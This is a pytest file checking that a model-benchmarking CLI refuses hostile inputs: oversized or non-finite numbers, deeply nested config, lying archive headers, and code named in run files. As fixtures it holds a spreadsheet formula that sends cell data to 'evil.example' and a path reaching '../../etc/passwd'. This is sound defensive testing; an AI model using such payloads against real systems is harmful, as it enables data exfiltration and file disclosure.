"""Issue 20, CLI rows: hostile numbers, sizes and names are refused with one line and exit 2, nothing written."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import numpy as np
import pytest

from mcbench.cli import main
from mcbench.reports.schema import save_results
from tests.conftest import make_linear_onnx
from tests.reliability.conftest import write_run_file
from tests.reliability.test_bad_inputs import _one_line
from tests.test_intake import _with_external_location
from tests.test_report import sample_run


def _run_file(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "run.toml"
    path.write_text(f'model = "{make_linear_onnx(tmp_path / "m.onnx")}"\nout = "{tmp_path / "out"}"\n' + text)
    return path


@pytest.mark.parametrize("text", ["x = " + "[" * 100_000, "x = " + "{a = " * 30_000, "x = " + "[" * 65 + "]" * 65])
def test_c1_deeply_nested_run_file_is_exit_2_naming_the_file(tmp_path, capsys, text):
    path = tmp_path / "deep.toml"
    path.write_text(text)
    assert main(["run", "--config", str(path)]) == 2
    assert _one_line(capsys) == f"mcbench: {path}: arrays or tables nested more than 64 levels deep"


@pytest.mark.parametrize(("text", "message"), [
    ("[timing]\nmin_runs = 9223372036854775807", "key 'timing.min_runs': must be at most 1e+06, got 9.22337e+18"),
    ("[timing]\nmax_seconds = 1e9", "key 'timing.max_seconds': must be at most 3600, got 1e+09"),
    ("[load]\nusers = [1, 100000]", "key 'load.users': must be at most 10000, got 100000"),
    ("[load]\nstep_seconds = inf", "key 'load.step_seconds': expected a finite number, got inf"),
    ("[timing]\nmin_seconds = nan", "key 'timing.min_seconds': expected a finite number, got nan"),
    ("[load]\nrates = [nan]", "key 'load.rates': expected a finite number, got nan"),
])
def test_c2_c9_counts_and_durations_are_bounded_and_finite(tmp_path, capsys, text, message):
    path = _run_file(tmp_path, text)
    assert main(["run", "--config", str(path)]) == 2
    assert _one_line(capsys) == f"mcbench: {path}: {message}"
    assert not (tmp_path / "out").exists()


@pytest.fixture
def results_file(tmp_path) -> Path:
    path = tmp_path / "results.json"
    save_results(sample_run(), path)
    return path


@pytest.mark.parametrize(("text", "message"), [
    ("[[budget]]\nvariant = 'ort-*'\np50_ms = nan\n", "[[budget]] #1: key 'p50_ms': expected a finite number, got nan"),
    ("[defaults]\nmax_cv = nan\n", "[defaults]: key 'max_cv': expected a finite number, got nan"),
    ("[defaults]\nresamples = 100000000\n", "key 'resamples': expected a whole number (resamples from 100 to 100000)"),
    ("x = " + "[" * 100_000, "arrays or tables nested more than 64 levels deep"),
    ("x = " + "[" * 65 + "]" * 65, "arrays or tables nested more than 64 levels deep"),  # parses: the depth check
])
def test_c9_budgets_are_finite_and_resamples_bounded(tmp_path, capsys, results_file, text, message):
    budgets = tmp_path / "budgets.toml"
    budgets.write_text(text)
    assert main(["gate", str(results_file), "--budgets", str(budgets)]) == 2
    err = _one_line(capsys)
    assert err.startswith(f"mcbench: {budgets}: ") and err.endswith(message), err


def test_c4_input_past_the_element_limit_is_refused_before_allocating(tmp_path, capsys, monkeypatch):
    model = make_linear_onnx(tmp_path / "dyn.onnx", batch="batch")
    out = tmp_path / "run"
    assert main(["run", "--model", str(model), "--input", "x=99999999,4", "--out", str(out)]) == 2
    assert _one_line(capsys) == ("mcbench: --input 'x=99999999,4': 399999996 elements (1599999984 bytes) is over the "
                                 "limit of 2097152 elements per input (set MCBENCH_MAX_INPUT_ELEMENTS to raise it)")
    assert main(["run", "--model", str(model), "--input", "x=99999999,99999999", "--out", str(out)]) == 2
    assert "9999999800000001 elements (39999999200000004 bytes)" in _one_line(capsys)
    monkeypatch.setenv("MCBENCH_MAX_INPUT_ELEMENTS", "7")
    assert main(["run", "--model", str(model), "--input", "x=2,4", "--out", str(out)]) == 2
    assert "8 elements (32 bytes) is over the limit of 7 elements" in _one_line(capsys)
    assert not out.exists()


def test_c6_nul_byte_in_an_external_data_location_is_the_external_data_error(tmp_path, capsys):
    model = _with_external_location(tmp_path, "w.bin\x00../../etc/passwd")
    assert main(["run", "--model", str(model), "--out", str(tmp_path / "run")]) == 2
    err = _one_line(capsys)
    assert err.startswith(f"mcbench: cannot load {model}: external data 'w.bin\\x00../../etc/passwd' points outside")
    assert not (tmp_path / "run").exists()


def test_c10_csv_cells_that_would_start_a_formula_are_neutralised(tmp_path, capsys):
    run = sample_run()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    names = [evil, "+1", "-cmd", "@SUM(A1)", "\tx", "\rx"]
    for variant, name in zip(run.variants, names, strict=False):
        variant.name = name
    save_results(run, tmp_path / "results.json")
    assert main(["export", str(tmp_path / "results.json"), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["variant"] for r in rows] == ["'" + n for n in names[: len(rows)]]
    assert any(r["p50_ms"] for r in rows)  # numbers stay numbers


def test_c11_an_empty_integer_range_says_so(tmp_path, capsys):
    model = make_linear_onnx(tmp_path / "m.onnx")
    assert main(["run", "--model", str(model), "--input", "x=1,4:int64:5-1", "--out", str(tmp_path / "r")]) == 2
    assert _one_line(capsys) == "mcbench: --input 'x=1,4:int64:5-1': the range 5-1 is empty (LOW must be below HIGH)"


def test_c3_a_long_model_name_gives_a_run_folder_of_safe_length(tmp_path, monkeypatch, model_dir):
    model = tmp_path / ("m" * 245 + ".onnx")
    model.write_bytes((model_dir / "linear.onnx").read_bytes())
    cfg = write_run_file(tmp_path, model, ["ort-fp32"])
    monkeypatch.chdir(tmp_path)
    assert main(["run", "--config", str(cfg), "--no-cache"]) == 0
    (folder,) = (tmp_path / "runs").iterdir()
    assert folder.name.endswith("-" + "m" * 80) and len(folder.name) == len("20260101-000000-") + 80
    assert (folder / "results.json").is_file()


@pytest.mark.parametrize("out", [[], ["--out", "a/b/c"]])
def test_c7_bad_input_leaves_no_folder_behind(tmp_path, monkeypatch, capsys, out):
    monkeypatch.chdir(tmp_path)
    assert main(["run", "--model", "missing.onnx", *out]) == 2
    assert _one_line(capsys) == "mcbench: cannot load missing.onnx: no such file"
    assert list(tmp_path.iterdir()) == []


EVIL_MODULE = "open({marker!r}, 'w').close()\ndef f(outputs, labels):\n    return 1.0\n"


@pytest.mark.parametrize(("line", "key", "shown"), [
    ('metric = "evilmod:f"', "metric", "'evilmod:f'"),
    ('trust_model = true', "trust_model", "'true'"),
])
def test_c8_a_run_file_names_code_only_with_allow_code(tmp_path, monkeypatch, capsys, line, key, shown):
    marker = tmp_path / "RAN"
    (tmp_path / "evilmod.py").write_text(EVIL_MODULE.format(marker=str(marker)))
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    path = _run_file(tmp_path, line + "\n")
    assert main(["run", "--config", str(path)]) == 2
    assert _one_line(capsys) == (f"mcbench: {path}: key {key!r}: {shown} would run code; a run file may name code "
                                 "only with --allow-code (or give it on the command line)")
    assert not marker.exists() and not (tmp_path / "out").exists()


def test_c8_a_factory_model_in_a_run_file_needs_allow_code(tmp_path, capsys):
    path = tmp_path / "run.toml"
    path.write_text('model = "mcbench.models:resnet18_like"\n')
    assert main(["run", "--config", str(path)]) == 2
    assert "key 'model': 'mcbench.models:resnet18_like' would run code" in _one_line(capsys)


def test_c8_allow_code_imports_the_metric(tmp_path, monkeypatch, model_dir):
    marker = tmp_path / "RAN"
    (tmp_path / "evilmod.py").write_text(EVIL_MODULE.format(marker=str(marker)))
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    cfg = write_run_file(tmp_path, model_dir / "linear.onnx", ["ort-fp32"])
    cfg.write_text(cfg.read_text().replace("quick = true", 'quick = true\nmetric = "evilmod:f"'))
    assert main(["run", "--config", str(cfg), "--allow-code", "--out", str(tmp_path / "run"), "--no-cache"]) == 0
    assert marker.exists()


def _npy_claiming(shape: tuple[int, ...], payload: bytes) -> bytes:
    """A .npy file whose header claims `shape` of float32, followed by `payload`."""
    buffer = io.BytesIO()
    np.lib.format.write_array_header_1_0(buffer, {"descr": "<f4", "fortran_order": False, "shape": shape})
    return buffer.getvalue() + payload


def test_c5_an_npz_header_that_lies_is_refused_before_loading(tmp_path, capsys):
    model = make_linear_onnx(tmp_path / "m.onnx")
    data = tmp_path / "val.npz"
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("x.npy", _npy_claiming((10**12, 4), bytes(64)))
        archive.writestr("labels.npy", _npy_claiming((1,), bytes(4)))
    assert main(["run", "--model", str(model), "--dataset", str(data), "--out", str(tmp_path / "run")]) == 2
    assert _one_line(capsys) == (f"mcbench: cannot load dataset {data}: array 'x' claims shape [1000000000000, 4], "
                                 "16000000000000 bytes, but holds 64")
    assert not (tmp_path / "run").exists()


def test_c5_a_dataset_over_the_size_limit_is_refused(tmp_path, capsys, monkeypatch):
    model = make_linear_onnx(tmp_path / "m.onnx")
    data = tmp_path / "val.npz"
    np.savez_compressed(data, x=np.zeros((2**16, 4), np.float32), labels=np.zeros(2**16, np.int64))
    assert data.stat().st_size < 10_000  # a small file that unpacks to 1.5 MiB
    monkeypatch.setenv("MCBENCH_MAX_DATASET_BYTES", str(2**20))
    assert main(["run", "--model", str(model), "--dataset", str(data), "--out", str(tmp_path / "run")]) == 2
    assert _one_line(capsys) == (f"mcbench: cannot load dataset {data}: its arrays unpack to 1572864 bytes, over the "
                                 "limit of 1048576 (set MCBENCH_MAX_DATASET_BYTES to raise it)")


def test_c5_arrays_the_model_does_not_name_are_not_loaded(tmp_path):
    from mcbench.bench.datasets import load_npz
    from mcbench.optimizer.artifact import InputSpec

    data = tmp_path / "val.npz"
    np.savez(data, x=np.ones((3, 4), np.float32), labels=np.zeros(3, np.int64))
    with zipfile.ZipFile(data, "a") as archive:  # an unused array whose header claims 4 TiB
        archive.writestr("unused.npy", _npy_claiming((2**40,), bytes(16)))
    dataset = load_npz(data, (InputSpec("x", (1, 4)),))
    assert len(dataset.samples) == 3 and dataset.labels.tolist() == [0, 0, 0]
